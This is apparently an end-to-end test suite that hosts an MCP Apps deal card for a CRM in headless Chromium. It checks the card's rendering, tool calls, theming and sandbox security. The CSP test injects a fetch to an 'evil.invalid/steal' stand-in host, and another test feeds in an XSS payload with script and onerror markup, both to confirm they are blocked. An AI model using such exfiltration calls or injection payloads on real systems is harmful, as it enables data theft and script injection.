// The deal card (ui://lightfield/deal) in headless Chromium, hosted as an MCP Apps host hosts it.
//
// Node side: the official TypeScript SDK client spawns the real server binary over stdio and
// declares the io.modelcontextprotocol/ui extension, so the deal tools are linked to the card and
// their results carry its model in _meta. It makes every call a model would make.
//
// Browser side: a minimal host page in the style of ext-apps' examples/basic-host, bundled here
// with esbuild from HOST_SCRIPT: an AppBridge (@modelcontextprotocol/ext-apps/app-bridge) talks
// over PostMessageTransport to an <iframe sandbox="allow-scripts" srcdoc> holding the card's HTML
// with the CSP a host sets for an empty _meta.ui.csp. The bridge forwards the view's tools/call to
// the Node client (page.exposeFunction), records ui/open-link and ui/update-model-context, and
// feeds the view the tool input and result once it has initialised.
//
// Every page also proves the view asks for nothing outside the bridge: no request besides the
// page itself, srcdoc and data: URLs; no console error or warning, page error or CSP violation.
//
// The Go test TestDealCardInBrowser runs this file with
//   LFMCP_BINARY          the server binary
//   LIGHTFIELD_BASE_URL   a fake Lightfield with testdata/org.json
//   LIGHTFIELD_API_KEY    its key
//   LFMCP_CHROMIUM        the browser (/usr/bin/chromium)
// and then checks on the fake what the card stored: the deal names below are shared with it.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import * as esbuild from 'esbuild';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';

const env = process.env;
const CARD_URI = 'ui://lightfield/deal';
const APP_MIME = 'text/html;profile=mcp-app';
const CARD_KEY = 'lightfield-mcp/card';
const UI_EXTENSION = 'io.modelcontextprotocol/ui';
// What a host puts in a view's document when its _meta.ui.csp declares no domains.
const EMPTY_CSP =
  "default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src data:; media-src data:; connect-src 'none'; object-src 'none'";
const STAGES = ['Discovery', 'Qualified', 'Proposal Sent', 'Negotiation', 'Closed Won', 'Closed Lost'];

// Deal names the Go test looks for on the fake.
const CREATED = 'Card created deal';
const PICKED = 'Card pick deal';
const CONFIRMED = 'Card confirm deal';
const MOVED = 'Card stage deal';
const THEMED = 'Card theme deal';
const PAYLOAD = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">';
const HOSTILE = `Card hostile deal ${PAYLOAD}`;

const wait = { timeout: 10_000 };

// The host page's script: an AppBridge with no MCP client of its own (its tools/call goes to
// window.mcpCallTool, the Node client), as a host without automatic forwarding does.
const HOST_SCRIPT = `
import { AppBridge, PostMessageTransport } from '@modelcontextprotocol/ext-apps/app-bridge';

const log = (window.hostLog = { calls: [], openLinks: [], modelContext: [], messages: [], logs: [], sizes: [] });
let bridge;
let hold = null; // while set, a tools/call waits for releaseCalls()

window.host = {
  async mount({ html, theme }) {
    const iframe = document.createElement('iframe');
    iframe.id = 'view';
    iframe.title = 'Deal card';
    iframe.setAttribute('sandbox', 'allow-scripts');
    iframe.style.cssText = 'display:block;width:100%;height:400px;border:1px solid #888';
    document.body.append(iframe);
    bridge = new AppBridge(
      null,
      { name: 'lightfield-card-e2e-host', version: '0.0.0' },
      { openLinks: {}, serverTools: {}, updateModelContext: { text: {} }, logging: {} },
      {
        hostContext: {
          theme,
          displayMode: 'inline',
          availableDisplayModes: ['inline'],
          platform: 'web',
          locale: 'en-US',
          timeZone: 'UTC',
          containerDimensions: { maxHeight: 4000 },
        },
      },
    );
    bridge.oncalltool = async (params) => {
      log.calls.push(params);
      if (hold) await hold.promise;
      return window.mcpCallTool(params);
    };
    bridge.onopenlink = async ({ url }) => {
      log.openLinks.push(url);
      return {};
    };
    bridge.onupdatemodelcontext = async (params) => {
      log.modelContext.push(params);
      return {};
    };
    bridge.onmessage = async (params) => {
      log.messages.push(params);
      return {};
    };
    bridge.addEventListener('loggingmessage', (params) => log.logs.push(params));
    bridge.addEventListener('sizechange', ({ height }) => {
      log.sizes.push(height);
      if (height) iframe.style.height = Math.min(height, 4000) + 'px';
    });
    const initialized = new Promise((resolve) => bridge.addEventListener('initialized', resolve));
    // Listening before the document loads: the view's ui/initialize is its first message.
    await bridge.connect(new PostMessageTransport(iframe.contentWindow, iframe.contentWindow));
    iframe.srcdoc = html;
    await initialized;
  },
  toolInput: (args) => bridge.sendToolInput({ arguments: args }),
  toolResult: (result) => bridge.sendToolResult(result),
  hostContextChange: (context) => bridge.sendHostContextChange(context),
  holdCalls() {
    let release;
    const promise = new Promise((resolve) => (release = resolve));
    hold = { promise, release };
  },
  releaseCalls() {
    hold?.release();
    hold = null;
  },
};
`;

let client;
let serverLog = '';
let browser;
let hostBundle;
let viewHtml; // the card's HTML as resources/read gives it

const textOf = (result) => (result.content ?? []).filter((c) => c.type === 'text').map((c) => c.text).join('\n');
const cardOf = (result) => result._meta?.[CARD_KEY];

async function eventually(check, timeout = wait.timeout) {
  const deadline = Date.now() + timeout;
  for (;;) {
    try {
      return await check();
    } catch (e) {
      if (Date.now() > deadline) throw e;
    }
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** A call as the model makes it. */
async function call(name, args) {
  const result = await client.callTool({ name, arguments: args });
  assert.ok(cardOf(result), `${name} returned no card:\n${JSON.stringify(result, null, 1)}\nserver log:\n${serverLog}`);
  return result;
}

before(async () => {
  const transport = new StdioClientTransport({
    command: env.LFMCP_BINARY,
    env: { LIGHTFIELD_API_KEY: env.LIGHTFIELD_API_KEY, LIGHTFIELD_BASE_URL: env.LIGHTFIELD_BASE_URL },
    stderr: 'pipe',
  });
  transport.stderr.on('data', (chunk) => {
    serverLog += chunk;
  });
  client = new Client(
    { name: 'lightfield-card-e2e', version: '0.0.0' },
    { capabilities: { extensions: { [UI_EXTENSION]: { mimeTypes: [APP_MIME] } } } },
  );
  await client.connect(transport);

  const built = await esbuild.build({
    stdin: { contents: HOST_SCRIPT, resolveDir: dirname(fileURLToPath(import.meta.url)), loader: 'js' },
    bundle: true,
    write: false,
    format: 'iife',
    platform: 'browser',
    target: 'es2022',
    minify: true,
    logLevel: 'silent',
  });
  hostBundle = built.outputFiles[0].text;

  browser = await chromium.launch({
    executablePath: env.LFMCP_CHROMIUM,
    timeout: 30_000,
    // Only loopback: any other host name resolves to nothing.
    args: ['--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1', '--disable-background-networking'],
  });
}, { timeout: 60_000 });

after(async () => {
  await browser?.close();
  await client?.close();
});

test('the server links the deal tools to the card and serves it as an MCP App', { timeout: 60_000 }, async () => {
  // The schema is refined once the organisation's definitions arrive, beside the handshake.
  const tools = await eventually(async () => {
    const { tools } = await client.listTools();
    assert.match(JSON.stringify(tools), /Proposal Sent/);
    return tools;
  }, 20_000);
  for (const name of ['create_opportunity', 'update_opportunity', 'find_opportunities']) {
    const tool = tools.find((t) => t.name === name);
    assert.equal(tool?._meta?.ui?.resourceUri, CARD_URI, `${name}'s _meta: ${JSON.stringify(tool?._meta)}`);
  }
  const { resources } = await client.listResources();
  assert.deepEqual(resources.filter((r) => r.uri === CARD_URI).map((r) => r.mimeType), [APP_MIME]);

  const read = await client.readResource({ uri: CARD_URI });
  assert.equal(read.contents.length, 1);
  const [content] = read.contents;
  assert.equal(content.uri, CARD_URI);
  assert.equal(content.mimeType, APP_MIME);
  const csp = content._meta?.ui?.csp;
  assert.equal(typeof csp, 'object', `_meta: ${JSON.stringify(content._meta)}`);
  for (const key of ['connectDomains', 'resourceDomains', 'frameDomains', 'baseUriDomains'])
    assert.ok(!csp[key] || csp[key].length === 0, `the card asks for ${key}: ${JSON.stringify(csp[key])}`);
  assert.match(content.text, /^<!doctype html>/i);
  viewHtml = content.text;
});

/** The card's HTML as a host puts it in srcdoc: with the empty-CSP policy first in its head. */
function srcdocOf(html) {
  let inserted = false;
  const out = html.replace(/<head[^>]*>/i, (head) => {
    inserted = true;
    return `${head}<meta http-equiv="Content-Security-Policy" content="${EMPTY_CSP}">`;
  });
  assert.ok(inserted, 'the card has no <head>');
  return out;
}

async function cardHtml() {
  if (!viewHtml) viewHtml = (await client.readResource({ uri: CARD_URI })).contents[0].text;
  return viewHtml;
}

/**
 * A host page in a fresh browser context with the card mounted and initialised. check() asserts
 * the page made no request and logged no problem; close() closes the context.
 */
async function host({ theme = 'light', colorScheme = 'light' } = {}) {
  const context = await browser.newContext({ colorScheme, viewport: { width: 900, height: 900 } });
  const page = await context.newPage();
  page.setDefaultTimeout(wait.timeout);
  const requests = [];
  const problems = [];
  const responses = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('response', (r) => responses.push(r.url()));
  page.on('websocket', (ws) => requests.push(ws.url()));
  page.on('console', (m) => {
    if (m.type() === 'error' || m.type() === 'warning') problems.push(`console ${m.type()}: ${m.text()} at ${m.location().url}`);
  });
  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
  page.on('frameattached', (f) => {
    if (f.parentFrame() !== page.mainFrame()) problems.push(`a frame inside the card: ${f.url()}`);
  });
  // Runs in every frame before its own scripts: a CSP violation anywhere is logged as an error.
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (e) =>
      console.error(`CSP violation: ${e.effectiveDirective} blocked ${e.blockedURI || '(inline)'} at ${e.sourceFile || e.documentURI}:${e.lineNumber}:${e.columnNumber}`),
    ),
  );
  await page.exposeFunction('mcpCallTool', (params) => client.callTool(params));
  let frameHandle;
  try {
    // The page's base URL is a web address (that resolves to nothing), so that a relative URL in
    // the card (img src=x) would be a request, not an invalid URL against about:blank.
    await page.setContent('<!doctype html><html lang="en"><head><base href="https://host.invalid/"><title>Host</title></head><body></body></html>');
    await page.addScriptTag({ content: hostBundle });
    await page.evaluate((args) => window.host.mount(args), { html: srcdocOf(await cardHtml()), theme });
    frameHandle = await (await page.$('iframe#view')).contentFrame();
  } catch (e) {
    await context.close();
    e.message += `\nproblems: ${problems.join('\n')}`;
    throw e;
  }
  const frame = page.frameLocator('iframe#view');

  const outside = () => requests.filter((u) => !(u.startsWith('data:') || u === 'about:srcdoc' || u === 'about:blank'));
  const check = () => {
    assert.deepEqual(outside(), [], 'the page or the card made a request outside the host bridge');
    assert.deepEqual(problems, [], 'the page logged problems');
  };
  return {
    page,
    frame,
    frameHandle,
    requests,
    responses,
    problems,
    hostLog: () => page.evaluate(() => window.hostLog),
    /** Feeds the view the call's input, then its result, as a host does once the call returns. */
    async show(args, result) {
      await page.evaluate((a) => window.host.toolInput(a), args);
      // While the call runs the card names the deal it was asked for.
      if (args.fields?.$name) assert.equal(await frame.locator('.pending-name').textContent(), `Deal: ${args.fields.$name}`);
      await page.evaluate((r) => window.host.toolResult(r), result);
      await frame.locator('article.card').first().waitFor();
    },
    badge: () => frame.locator('article.card > .badge').first(),
    check,
    close: () => context.close(),
  };
}

/**
 * Runs body with a mounted card; then checks that the page made no request and logged no problem.
 * A failure of body is reported with what the page logged, which often says why.
 */
async function withHost(options, body) {
  const h = await host(options);
  try {
    await body(h);
  } catch (e) {
    if (h.problems.length) e.message += `\nthe page logged:\n${h.problems.join('\n')}`;
    throw e;
  } finally {
    await h.close();
  }
  h.check();
}

/** The tool calls the card made through the host (the SDK adds a _meta.progressToken). */
const callsOf = (log) => log.calls.map(({ name, arguments: args }) => ({ name, arguments: args }));
const norm = (s) => (s ?? '').replace(/\s+/g, ' ').trim();
const text = async (locator) => norm(await locator.textContent());
/** The value of a fact of the deal (a dt/dd pair). */
const fact = (frame, term) => frame.locator(`dl.facts > div:has(> dt:text-is("${term}")) > dd`);

test('the host enforces the card CSP, and its violations are caught', { timeout: 60_000 }, async () => {
  await withHost({}, async (h) => {
    // Script the card never runs, put in its frame from outside: both loads are refused.
    await h.frameHandle.evaluate(() => {
      fetch('https://evil.invalid/steal').catch(() => {});
      new Image().src = 'https://evil.invalid/pixel.png';
    });
    await eventually(() => {
      assert.ok(h.problems.some((p) => /CSP violation: connect-src blocked https:\/\/evil\.invalid\/steal/.test(p)), h.problems.join('\n'));
      assert.ok(h.problems.some((p) => /CSP violation: img-src blocked https:\/\/evil\.invalid\/pixel\.png/.test(p)), h.problems.join('\n'));
    });
    // Chromium reports the refused image as a request (that never gets a response): requests
    // blocked by the CSP are seen too.
    assert.deepEqual(h.responses.filter((u) => u.includes('evil.invalid')), [], 'a blocked load was answered');
    assert.ok(h.requests.includes('https://evil.invalid/pixel.png'), h.requests.join('\n'));
    h.requests.splice(0, Infinity, ...h.requests.filter((u) => !u.includes('evil.invalid')));
    h.problems.length = 0;
  });
});

test('a created deal renders with its facts, and Open in Lightfield asks the host to open its link', { timeout: 60_000 }, async () => {
  const args = {
    fields: { $name: CREATED, $stage: 'Discovery', $amount: 40000, $closeDate: '2026-12-31' },
    relationships: { $account: 'Acme Corp', $owner: 'Dana' },
    note: { title: 'Met at the fair', content: 'Wants a pilot.' },
    followUp: { title: 'Send proposal', due: '2026-12-04' },
  };
  const result = await call('create_opportunity', args);
  const card = cardOf(result);
  assert.equal(card.outcome, 'created', textOf(result));
  const [deal] = card.deals;
  assert.match(deal.link ?? '', /^https:\/\//);

  await withHost({}, async (h) => {
    await h.show(args, result);
    const { frame } = h;
    assert.equal(await text(h.badge()), '✓ Created');
    await frame.getByRole('heading', { level: 2, name: CREATED, exact: true }).waitFor();
    assert.equal(await text(frame.locator('.headline')), card.headline);
    const pipeline = frame.getByRole('list', { name: 'Pipeline' });
    assert.deepEqual((await pipeline.getByRole('listitem').allTextContents()).map(norm), [
      'Discovery (current)', ...STAGES.slice(1),
    ]);
    assert.equal(await text(pipeline.locator('[aria-current="step"]')), 'Discovery (current)');
    assert.equal(await text(fact(frame, 'Amount')), '$40,000.00');
    assert.equal(await text(fact(frame, 'Close date')), 'Dec 31, 2026');
    assert.equal(await text(fact(frame, 'Account')), 'Acme Corp');
    assert.equal(await text(fact(frame, 'Owner')), 'Dana Scully');
    assert.equal(await text(fact(frame, 'Note')), 'Met at the fair Wants a pilot.');
    assert.equal(await text(fact(frame, 'Follow-up')), 'Send proposal, due Dec 4, 2026, assigned to Dana Scully');
    // The controls are named for what they change.
    assert.equal(await frame.getByRole('combobox', { name: 'Stage' }).inputValue(), 'Discovery');
    assert.equal(await frame.getByRole('spinbutton', { name: 'Amount (USD)' }).inputValue(), '40000');

    await frame.getByRole('button', { name: `Open ${CREATED} in Lightfield` }).click();
    await eventually(async () => assert.deepEqual((await h.hostLog()).openLinks, [deal.link]));
    const log = await h.hostLog();
    assert.deepEqual(callsOf(log), [], 'opening a link called a tool');
    assert.deepEqual(log.modelContext, []);
  });
});

test('a refused call offers the candidates; picking one makes the same call with its ID', { timeout: 60_000 }, async () => {
  const args = {
    fields: { $name: PICKED, $stage: 'Discovery', $amount: 30000 },
    relationships: { $account: 'acc_01globex', $evaluator: 'Jo' },
  };
  const result = await call('create_opportunity', args);
  const card = cardOf(result);
  assert.equal(result.isError, true);
  assert.equal(card.outcome, 'refused', textOf(result));
  const choices = card.problems.flatMap((p) => p.choices ?? []);
  assert.deepEqual(choices.map((c) => c.id).sort(), ['con_01jop', 'con_01jor']);
  const jo = choices.find((c) => c.id === 'con_01jop');

  await withHost({}, async (h) => {
    await h.show(args, result);
    const { frame } = h;
    assert.equal(await text(h.badge()), '! Refused: nothing written');
    await frame.getByRole('heading', { level: 2, name: card.headline }).waitFor();
    const buttons = frame.getByRole('list', { name: 'Choices' }).getByRole('button');
    assert.equal(await buttons.count(), 2);
    await frame.getByRole('button', { name: /^Pick Jo Park\b/ }).click();

    await frame.locator('article.card[data-outcome="created"]').waitFor();
    assert.equal(await text(h.badge()), '✓ Created');
    await frame.getByRole('heading', { level: 2, name: PICKED, exact: true }).waitFor();
    assert.equal(await text(fact(frame, 'Person')), 'Jo Park (Evaluator)');
    assert.equal(await text(fact(frame, 'Account')), 'Globex');
    assert.equal(await text(fact(frame, 'Amount')), '$30,000.00');
    assert.match(await text(frame.getByRole('status')), /^Created /);
    // Focus moves to the new card's headline, so a screen reader hears it.
    assert.ok(await frame.locator('.focus-target').evaluate((el) => el === document.activeElement), 'focus is not on the new card');

    const log = await eventually(async () => {
      const log = await h.hostLog();
      assert.equal(log.modelContext.length, 1);
      return log;
    });
    assert.deepEqual(callsOf(log), [{ name: 'create_opportunity', arguments: jo.arguments }]);
    const [update] = log.modelContext;
    assert.equal(update.content.length, 1);
    const said = update.content[0].text;
    assert.ok(said.startsWith(`In the deal card, the person called create_opportunity with ${JSON.stringify(jo.arguments)}. The result: `), said);
    assert.match(said, /con_01jop/);
    assert.match(said, new RegExp(PICKED));
  });
});

test('a dry run is created by Create, once, the button disabled while it runs', { timeout: 60_000 }, async () => {
  const args = {
    fields: { $name: CONFIRMED, $stage: 'Qualified', $closeDate: '2026-12-31' },
    relationships: { $account: 'Acme Corp', $owner: 'Dana' },
    note: { title: 'Met at the fair', content: 'Wants a pilot.' },
    followUp: { title: 'Send proposal', due: '2026-12-04' },
    dryRun: true,
  };
  const result = await call('create_opportunity', args);
  const card = cardOf(result);
  assert.equal(card.outcome, 'dryRun', textOf(result));
  assert.equal(card.confirm.dryRun, undefined);

  await withHost({}, async (h) => {
    await h.show(args, result);
    const { frame, page } = h;
    assert.equal(await text(h.badge()), '○ Dry run: nothing sent');
    await frame.getByRole('heading', { level: 2, name: CONFIRMED, exact: true }).waitFor();
    assert.equal(await text(fact(frame, 'Owner')), 'Dana Scully');
    assert.equal(await frame.getByRole('combobox', { name: 'Stage' }).count(), 0, 'a dry run offers a stage change');
    assert.equal(await frame.getByRole('button', { name: /Open .* in Lightfield/ }).count(), 0, 'a dry run has a link');

    await page.evaluate(() => window.host.holdCalls());
    const create = frame.getByRole('button', { name: 'Create this deal' });
    await create.click();
    await eventually(async () => assert.equal(await text(frame.getByRole('status')), 'Saving…'));
    assert.ok(await create.isDisabled(), 'Create is enabled while the call runs');
    assert.equal(await frame.locator('#view').getAttribute('aria-busy'), 'true');
    await page.evaluate(() => window.host.releaseCalls());

    await frame.locator('article.card[data-outcome="created"]').waitFor();
    await frame.getByRole('heading', { level: 2, name: CONFIRMED, exact: true }).waitFor();
    assert.equal(await text(fact(frame, 'Follow-up')), 'Send proposal, due Dec 4, 2026, assigned to Dana Scully');
    assert.equal(await frame.locator('#view').getAttribute('aria-busy'), 'false');
    const log = await eventually(async () => {
      const log = await h.hostLog();
      assert.equal(log.modelContext.length, 1);
      return log;
    });
    assert.deepEqual(callsOf(log), [{ name: 'create_opportunity', arguments: card.confirm }]);
    assert.match(log.modelContext[0].content[0].text, /^In the deal card, the person called create_opportunity with .*"Card confirm deal".*\. The result: /s);
  });
});

test("a deal's stage is changed with the card's stage control", { timeout: 60_000 }, async () => {
  const args = { fields: { $name: MOVED, $stage: 'Discovery' }, relationships: { $account: 'acc_01acme' } };
  const result = await call('create_opportunity', args);
  const card = cardOf(result);
  assert.equal(card.outcome, 'created', textOf(result));
  const [deal] = card.deals;

  await withHost({}, async (h) => {
    await h.show(args, result);
    const { frame } = h;
    const stage = frame.getByRole('combobox', { name: 'Stage' });
    assert.deepEqual((await stage.locator('option').allTextContents()).map(norm), STAGES);
    await stage.selectOption('Negotiation');
    // By keyboard: Tab from the stage control reaches Move, and Enter presses it.
    await stage.focus();
    await h.page.keyboard.press('Tab');
    assert.equal(await h.frameHandle.evaluate(() => document.activeElement?.textContent), 'Move');
    await h.page.keyboard.press('Enter');

    await frame.locator('article.card[data-outcome="updated"]').waitFor();
    assert.equal(await text(h.badge()), '✓ Updated');
    await frame.getByRole('heading', { level: 2, name: MOVED, exact: true }).waitFor();
    const changes = frame.locator('section.changes');
    await changes.getByRole('heading', { name: 'Changes' }).waitFor();
    assert.deepEqual((await changes.getByRole('listitem').allTextContents()).map(norm), ['Stage: Discovery → changed to Negotiation']);
    assert.equal(await text(frame.locator('[aria-current="step"]')), 'Negotiation (current)');
    assert.equal(await frame.getByRole('combobox', { name: 'Stage' }).inputValue(), 'Negotiation');

    const log = await eventually(async () => {
      const log = await h.hostLog();
      assert.equal(log.modelContext.length, 1);
      return log;
    });
    assert.deepEqual(callsOf(log), [{ name: 'update_opportunity', arguments: { opportunity: deal.id, fields: { $stage: 'Negotiation' } } }]);
    assert.match(log.modelContext[0].content[0].text, /called update_opportunity with .*Negotiation/);
  });
});

test('markup in a deal is shown as text and never runs', { timeout: 60_000 }, async () => {
  const args = {
    fields: { $name: HOSTILE, $stage: 'Discovery' },
    relationships: { $account: 'acc_01acme' },
    note: { title: 'Hostile note', content: PAYLOAD },
  };
  const result = await call('create_opportunity', args);
  const card = cardOf(result);
  assert.equal(card.outcome, 'created', textOf(result));
  assert.equal(card.deals[0].name, HOSTILE);

  const scriptsInCard = ((await cardHtml()).match(/<script\b/gi) ?? []).length;
  await withHost({}, async (h) => {
    await h.show(args, result);
    const { frame, frameHandle, page } = h;
    const heading = frame.getByRole('heading', { level: 2, name: HOSTILE, exact: true });
    await heading.waitFor();
    assert.equal(await heading.textContent(), HOSTILE);
    assert.equal(await frame.locator('.note').textContent(), `Hostile note\n${PAYLOAD}`);
    // The headline names the deal as it is, markup and all, shown as text.
    assert.equal(await frame.locator('.headline').textContent(), card.headline);
    assert.ok(card.headline.includes('<script>window.__pwned=1</script>'), card.headline);
    const dom = await frameHandle.evaluate(() => ({
      scripts: [...document.scripts].map((s) => s.textContent.includes('__pwned')),
      images: document.images.length,
      handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
      pwned: window.__pwned,
    }));
    assert.deepEqual(dom, { scripts: new Array(scriptsInCard).fill(false), images: 0, handlers: 0, pwned: undefined });
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    assert.deepEqual(h.requests.filter((u) => /\/x$/.test(u)), []);
  });
});

test("the host's dark theme gives the card a dark color scheme, and a change of theme or display mode follows", { timeout: 60_000 }, async () => {
  const createArgs = { fields: { $name: THEMED, $stage: 'Qualified', $amount: 1200 }, relationships: { $account: 'acc_01acme' } };
  assert.equal(cardOf(await call('create_opportunity', createArgs)).outcome, 'created');
  const args = { query: THEMED };
  const result = await call('find_opportunities', args);
  const card = cardOf(result);
  assert.equal(card.outcome, 'found', textOf(result));
  assert.deepEqual(card.deals.map((d) => d.name), [THEMED]);

  // The browser prefers light: dark can only come from the host.
  await withHost({ theme: 'dark', colorScheme: 'light' }, async (h) => {
    await h.show(args, result);
    const { frame, frameHandle, page } = h;
    const look = () =>
      frameHandle.evaluate(() => {
        const root = document.documentElement;
        const lum = (c) => {
          const [r, g, b] = c.match(/[\d.]+/g).map(Number);
          return 0.2126 * r + 0.7152 * g + 0.0722 * b;
        };
        const body = getComputedStyle(document.body);
        return {
          theme: root.getAttribute('data-theme'),
          scheme: root.style.colorScheme,
          computed: getComputedStyle(root).colorScheme,
          darkText: lum(body.color) < 128,
        };
      });
    assert.deepEqual(await look(), { theme: 'dark', scheme: 'dark', computed: 'dark', darkText: false });

    // The found deal: a row with its summary; Details shows the deal with its controls.
    await frame.getByRole('heading', { name: THEMED, exact: true }).waitFor();
    const details = frame.getByRole('button', { name: `Details of ${THEMED}` });
    assert.equal(await details.getAttribute('aria-expanded'), 'false');
    await details.click();
    await frame.getByRole('button', { name: `Hide details of ${THEMED}` }).waitFor();
    assert.equal(await frame.getByRole('combobox', { name: 'Stage' }).inputValue(), 'Qualified');

    await page.evaluate(() => window.host.hostContextChange({ theme: 'light' }));
    await eventually(async () => assert.deepEqual(await look(), { theme: 'light', scheme: 'light', computed: 'light', darkText: true }));

    // The display mode the host gives: fullscreen is roomier than inline.
    const padding = () => frameHandle.evaluate(() => parseFloat(getComputedStyle(document.querySelector('.app') ?? document.body).paddingLeft));
    const inline = await padding();
    await page.evaluate(() => window.host.hostContextChange({ displayMode: 'fullscreen' }));
    await eventually(async () => {
      assert.equal(await frameHandle.evaluate(() => document.documentElement.dataset.displayMode), 'fullscreen');
      assert.ok((await padding()) > inline, 'fullscreen is no roomier than inline');
    });
  });
});
